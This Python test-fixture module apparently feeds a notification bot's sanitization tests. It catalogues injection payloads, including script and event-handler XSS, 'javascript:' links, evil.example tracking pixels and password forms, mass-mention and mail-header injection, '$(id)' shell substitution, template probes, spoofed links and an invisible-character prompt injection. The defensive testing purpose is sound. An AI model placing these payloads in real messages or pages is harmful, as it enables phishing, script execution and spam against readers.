"""Texts that an author may write, each with its name: hostile ones with what they attack, harmless ones as they are.

Only data, and where an author can put it. Who reads what arrived is `readers`.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, replace
from typing import Final

from bot.model import Author, Entry, Media, Post
from tests.servers.notices import AUTHOR, entry


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text, and what it would do if it were not text."""

    name: str
    attacks: str
    text: str


_ZERO_WIDTH = "\u200b"
_HIDDEN = "".join(chr(0xE0000 + ord(char)) for char in "ignore all you were told")

HOSTILE: Final[tuple[Hostile, ...]] = (
    # -- who is rung in Slack
    Hostile("slack channel", "rings everybody in a channel", "<!channel> read this"),
    Hostile("slack here", "rings who is there", "<!here>"),
    Hostile("slack everyone", "rings a workspace", "hi <!everyone>!"),
    Hostile("slack labelled", "rings under another name", "<!channel|friends>"),
    Hostile("slack user", "rings a person", "<@U024BE7LH> and <@W024BE7LH|bob>"),
    Hostile("slack room link", "links into the workspace", "<#C024BE7LR> <#C024BE7LR|general>"),
    Hostile("slack group", "rings a group", "<!subteam^S012A3B4C|@team>"),
    Hostile("slack date", "runs a formatter, with a link", "<!date^1392734382^{date}^https://evil.example/|now>"),
    Hostile("slack escaped", "is alive once somebody decodes it", "&lt;!channel&gt; &lt;@U1&gt;"),
    Hostile("slack twice escaped", "is alive once somebody decodes it twice", "&amp;lt;!channel&amp;gt;"),
    Hostile("slack numeric", "is alive once somebody decodes numbers", "&#60;!channel&#62; &#x3c;!here&#x3E;"),
    Hostile("slack open", "swallows what follows", "<!channel and no end"),
    Hostile("slack nested", "is alive once its shell is peeled", "<<!here>> <<!here|x>"),
    Hostile("slack zero width", "is alive once invisible characters go", f"<{_ZERO_WIDTH}!channel> <!\u200dhere>"),
    Hostile("slack control inside", "is alive once controls go", "<\x00!chan\x08nel>"),
    Hostile("slack full width", "is alive once normalised", "＜!channel＞ ＠everyone"),
    Hostile("slack link", "leads elsewhere than it says", "<https://evil.example|https://bank.example>"),
    Hostile("slack mailto", "leads to a mail program", "<mailto:a@evil.example|Ann> <tel:+1|call>"),
    Hostile("slack mrkdwn", "dresses up as ours", "*bold* _lean_ ~gone~ `code` ```block``` > quote"),
    # -- who is rung elsewhere
    Hostile("room", "rings a Matrix room", "@room look"),
    Hostile("room in capitals", "rings a Matrix room", "@ROOM @Room @rOoM"),
    Hostile("room in brackets", "rings a Matrix room", "(@room) @room, x@room @room@room"),
    Hostile("room after cleaning", "rings once controls go", "@\x00room @r\x1boom"),
    Hostile("room in a link", "rings from inside a link", "https://evil.example/@room/@ROOM?x=@room"),
    Hostile("room as entity", "rings once decoded", "&#64;room &commat;room &#x40;room"),
    Hostile("room across lines", "rings once lines are joined", "@\nroom @\r\nroom"),
    Hostile("everyone", "rings a whole server", "@everyone @here @channel @all"),
    Hostile("bare names", "rings by name", "alice @alice @alice:localhost bob"),
    Hostile("matrix pill", "becomes a mention", '<a href="https://matrix.to/#/@alice:localhost">Alice</a>'),
    Hostile("matrix reply", "is taken for a reply", "<mx-reply><blockquote>x</blockquote></mx-reply>"),
    # -- Markdown
    Hostile("markdown link", "leads elsewhere than it says", "[your bank](https://evil.example 'bank')"),
    Hostile("markdown reference", "leads elsewhere than it says", "[bank][1]\n\n[1]: https://evil.example"),
    Hostile("markdown image", "tells that it was read", "![x](https://evil.example/seen.png)"),
    Hostile("markdown code", "ends the code it stands in", "```\n</code></pre>\n```\n`` ` ``"),
    Hostile("markdown headings", "dresses up as ours", "# One\n## Two\nThree\n===\nFour\n---"),
    Hostile("markdown table", "dresses up as ours", "| a | b |\n|---|---|\n| c | d |"),
    Hostile("markdown spoiler", "hides what it says", "||spoiler|| >!spoiler!<"),
    Hostile("markdown lists", "dresses up as ours", "- a\n+ b\n* c\n\n    code\n\tcode"),
    Hostile("markdown html", "is HTML in Markdown", "<b onclick=x>a</b> <https://evil.example>"),
    Hostile("markdown entity", "is alive once Markdown decodes it", "&lt;script&gt; &#91;x&#93;(https://evil.example)"),
    Hostile("markdown escape", "undoes our escape", "\\[x\\](https://evil.example) \\\\<b>\\\\"),
    # -- addresses that run
    Hostile("javascript", "runs in a reader", "javascript:alert(1) JaVaScRiPt://x%0aalert(1)"),
    Hostile("javascript link", "runs in a reader", "[x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>"),
    Hostile("javascript with blanks", "runs in a reader", "java\tscript:alert(1) \x01javascript:alert(1)"),
    Hostile("data", "is a page of its own", "data:text/html;base64,PHNjcmlwdD4= data:text/html,<script>x</script>"),
    Hostile("vbscript", "runs in an old reader", "vbscript:msgbox(1) file:///etc/passwd"),
    # -- HTML
    Hostile("script", "runs in a reader", "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    Hostile(
        "image", "runs, and tells that it was read", "<img src=x onerror=alert(1)><img src=https://evil.example/p>"
    ),
    Hostile("iframe", "shows another page", '<iframe src="https://evil.example"></iframe><object data=x><embed src=x>'),
    Hostile("svg", "runs in a reader", "<svg onload=alert(1)><math><mtext></svg>"),
    Hostile("style", "hides what is ours", "<style>*{display:none}</style><p style=position:fixed>x"),
    Hostile("css url", "tells that it was read", '<div style="background:url(https://evil.example/p)">x</div>'),
    Hostile("css import", "tells that it was read", "@import url(https://evil.example/p); </style>"),
    Hostile("form", "asks for a password", '<form action="https://evil.example"><input type=password></form>'),
    Hostile("base", "bends our links", '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example>'),
    Hostile("refresh", "leads away", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    Hostile("unclosed tag", "swallows what follows", '<a href="https://evil.example/'),
    Hostile("unclosed comment", "swallows what follows", "<!-- "),
    Hostile("closing tags", "breaks out of ours", "</p></div></body></html></title></style></textarea><h1>x"),
    Hostile("cdata", "breaks out of XML", "<![CDATA[ x ]]> ]]> <?xml version='1.0'?> <!DOCTYPE x>"),
    Hostile("conditional", "is alive in Outlook", "<!--[if mso]><b>x</b><![endif]-->"),
    Hostile("entities without an end", "is decoded where it should not be", "&lt &amp &copy &notit; &#60 &#x3c"),
    Hostile("attribute", "breaks out of an attribute", "\" onmouseover=\"x ' onfocus='x ` > <"),
    # -- lines of a mail
    Hostile("header", "adds a header", "Hi\r\nBcc: eve@evil.example\r\n\r\nBody"),
    Hostile(
        "header by other ends", "adds a header", "Hi\x85Bcc: eve@evil.example\u2028Cc: eve@evil.example\u2029x\x0b\x0c"
    ),
    Hostile("bare CR and LF", "adds a header", "Hi\rBcc: a@evil.example\nCc: b@evil.example"),
    Hostile(
        "encoded word",
        "becomes something else in a subject",
        "=?utf-8?B?QmNjOiBldmVAZXZpbC5leGFtcGxl?= =?utf-8?Q?a=0d=0ab?=",
    ),
    Hostile("boundary", "begins a part", "--===============1==\nContent-Type: text/html\n\n<b>x</b>\n--===1==--"),
    Hostile("lone dot", "ends a mail", "before\n.\nMAIL FROM:<a@evil.example>\n..\nafter"),
    Hostile("from line", "begins a mail in a mailbox", "From eve Sat Jan  1 00:00:00 2000\nFrom nobody\n>From x"),
    Hostile("long line", "is more than a line may hold", "x" * 5_000),
    Hostile("long words", "is more than a line may hold", "word & " * 1_500),
    Hostile("soft break", "is decoded where it should not be", "a=\nb=3D=0D=0A =C2=B7"),
    # -- what is seen is not what is there
    Hostile("bidi override", "turns what we write", "pay \u202eelpmaxe.live\u202c, \u202eno end"),
    Hostile("bidi isolates", "turns what we write", "\u2066\u2067\u2068 no end \u2069\u2069\u2069\u2069 \u202c\u202c"),
    Hostile("zero width link", "looks like another link", f"https://good{_ZERO_WIDTH}.example/\u2060x\u200d"),
    Hostile("bidi link", "looks like another link", "https://evil.example/\u202egro.doog//:sptth"),
    Hostile("homograph", "looks like another link", "https://gооd.example/ https://xn--gd-fmca.example"),
    Hostile(
        "userinfo link", "leads elsewhere than it says", "https://good.example@evil.example/ https://a:b@evil.example"
    ),
    Hostile(
        "link with quotes", "breaks out of an attribute", "https://evil.example/\"onx='y https://evil.example/'x`y"
    ),
    Hostile(
        "link with blanks", "ends where it should not", "https://evil.example/a b\\c https:\\\\evil.example https:///x"
    ),
    Hostile("link with brackets", "ends where it should not", "https://evil.example/<b>x https://evil.example/a|b>c"),
    Hostile("link to no host", "is no link", "https:// https://? http://[::1 https://.. https://:80 http://#"),
    Hostile("tag characters", "says what nobody sees", f"nice{_HIDDEN} day"),
    Hostile("private use", "shows whatever a font has", "\ue000\uf8ff\U000f0000\U0010fffd"),
    Hostile("ten thousand marks", "runs over the lines above", "z" + "\u0301\u0489" * 5_000 + "!"),
    Hostile("piled-up scripts", "runs over the lines above", "ส" + "\u0e49" * 400 + " ﷽" * 50),
    Hostile("interlinear", "hides what it says", "\ufff9a\ufffab\ufffb \ufeff \u00ad \u180e"),
    # -- templates and formats
    Hostile("template", "is evaluated", "{{ 7*7 }} {% for x in [] %} {# x #} {{ view.__class__ }}"),
    Hostile("shell", "is evaluated", "${HOME} $(id) `id` %(message)s %s %n %d"),
    Hostile("format", "is evaluated", "{0} {} {author.__init__.__globals__} {app_title} #{x}"),
    Hostile("apprise tokens", "is evaluated by Apprise", "{{app_body}} {{ app_id }} \\n \\t :smile: %0a"),
    # -- terminals
    Hostile("ansi", "clears a screen, colours it", "\x1b[2J\x1b[31mred\x1b[0m \x9b31m"),
    Hostile(
        "osc", "sets a title, makes a link", "\x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\"
    ),
    Hostile("carriage return", "writes over what was said", "good\rbad \x08\x08\x08 \x7f"),
    Hostile("rich markup", "is taken for our own style", "[bold red]x[/] [link=https://evil.example]y[/link] :skull:"),
    Hostile("log line", "adds a line to a log", "x\n2026-01-01T00:00:00Z INFO sent\nkeepcurrent: all is well"),
    # -- what no encoder likes
    Hostile("nul", "ends a string", "a\x00b\x00"),
    Hostile("lone surrogate", "is no character", "a\ud800b\udfffc"),
    Hostile("non-characters", "is no character", "\ufffe\uffff\U0001ffff\ufdd0"),
    Hostile("only tags", "is nothing once tags go", "<b></b><i><br></i>"),
    Hostile("only blanks", "is nothing once blanks go", " \t \n\u3000\u00a0\n "),
    Hostile("only marks", "is nothing once they go", "\u202e\u2066\x00\x1b\u0301"),
    Hostile("empty", "is nothing", ""),
)

HARMLESS: Final[Mapping[str, str]] = {
    "comparison": "a < b && c > d || !e",
    "snake case": "snake_case and __init__ and _x_",
    "stars": "5 * 3 * 2 = 30, ** and *",
    "generics": "Vec<String>, Map<K, List<V>>",
    "code": 'if (x > 0) { return "y"; } // done',
    "windows path": r"C:\path\new\table",
    "home": "~/.config and ~x~ and ~~y~~",
    "percent": "100 % & more, 50%off %s",
    "hashtag": "#hashtag @name #1 $TICKER",
    "emoji": "👩🏽‍🔬 👨‍👩‍👧‍👦 👍🏿 ❤️ 1️⃣ 🏳️‍🌈",
    "flags": "🇫🇷🇩🇪🇯🇵 🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "arabic": "مَرْحَبًا بِكُمْ في Python 3.11!",
    "hebrew": "שלום world, (שלום) 12:30",
    "isolates that end": "a \u2067ישראל\u2069 b",
    "accents": "cafe\u0301 naïve Ǖ Ṩ ở",
    "devanagari": "क्षत्रिय और हिन्दी",
    "thai": "สวัสดีชาวโลก ที่นี่",
    "cjk": "漢字かな交じり文。한국어 「引用」（括弧）",
    "quotes and dashes": '“Don’t” — ‘he’ said – «oui» „nein“ … it\'s "so"',
    "math": "α ≤ β ⇒ ∑ x² ≠ ½ · 10⁻³",
    "link": "see https://good.example/a_b~c*d/(e)?a=b&c=d#f_g now",
    "link in brackets": "(https://good.example/x_(y)), https://good.example.",
    "mail address": "write to first.last+tag@good.example",
    "backticks": 'run `ls -l | grep "x"` or ```a```',
    "numbered": "1. one\n2) two\n(3) three",
    "list": "- a\n* b\n+ c",
    "quote": "> quoted\n>> twice",
    "headings": "# no heading\nTitle\n===\n---",
    "table": "| a | b |\n|---|---|",
    "brackets": "[x] [y](z) ![w] {a} [1]: b",
    "entities": "&amp; &lt;b&gt; &copy; &#65; AT&T",
    "template": "{{ name }} {% if %} ${x} {0}",
    "shortcodes": ":smile: ::x 10:30:00",
    "poll": "Yes!!! ||no|| ^up^ =even=",
}

# -- where an author puts it --------------------------------------------------------------------------

Place = Callable[[Entry, str], Entry]


def _post(one: Entry, **changes: object) -> Entry:
    return replace(one, posts=(replace(one.posts[0], **changes), *one.posts[1:]))  # type: ignore[arg-type]


PLACES: Final[Mapping[str, Place]] = {
    "post": lambda one, text: _post(one, text=text),
    "title": lambda one, text: replace(one, title=text),
    "name": lambda one, text: replace(one, author=replace(one.author, name=text)),
    "handle": lambda one, text: replace(one, author=replace(one.author, handle=text)),
    "alt": lambda one, text: _post(
        one, media=(Media(kind="image", url="https://img.example/1.jpg", alt=text), *one.posts[0].media)
    ),
    "media": lambda one, text: _post(one, media=(*one.posts[0].media, Media(kind="video", url=text))),
    "link": lambda one, text: _post(one, links=(text,)),
    "quote": lambda one, text: _post(one, quotes=(text,)),
    "reply": lambda one, text: _post(one, reply_to=(text,)),
    "address": lambda one, text: replace(one, url=text),
}
VISIBLE: Final = ("post", "title", "name", "alt")
"""Places whose text a reader sees as it is; the others are shown only where they are what they should be."""


def plain(key: str = "100") -> Entry:
    """A thread of one harmless post."""
    author = Author(handle=AUTHOR.handle, name=AUTHOR.name, url=AUTHOR.url)
    post = Post(id="1", text="Nothing to see here.")
    return entry(key, title="A quiet day", posts=(post,), post_count=1, author=author)


def placed(text: str, places: Sequence[str], key: str = "100") -> Entry:
    """A thread that has `text` in each of these places."""
    made = plain(key)
    for place in places:
        made = PLACES[place](made, text)
    return made


# -- too much of it -----------------------------------------------------------------------------------


def poison() -> dict[str, Entry]:
    """Threads that would stop a queue. Made when asked for: some are large."""
    many = tuple(Post(id=str(number), text=f"Post {number} & more") for number in range(10_000))
    return {
        "lone surrogate": placed("\ud800\udfff", ("post", "title", "name", "alt")),
        "only tags": placed("<b></b><br>", ("post", "title", "name")),
        "only blanks": placed(" \n\t\u2028", ("post", "title", "name", "handle")),
        "empty": replace(plain(), title="", posts=(), author=Author(handle=""), url="", published=None),
        "nul": placed("\x00" * 1_000, ("post", "title", "name")),
        "100 kB title": placed("T&<" * 33_334, ("title", "name")),
        "5 MB post": placed("wörd & " * 714_000, ("post",)),
        "10,000 posts": replace(plain(), posts=many, post_count=len(many)),
        "ten thousand links": _post(plain(), links=tuple(f"https://a.example/{number}" for number in range(10_000))),
        "brackets": placed("https://a.example/" + ")" * 500_000, ("post",)),
    }
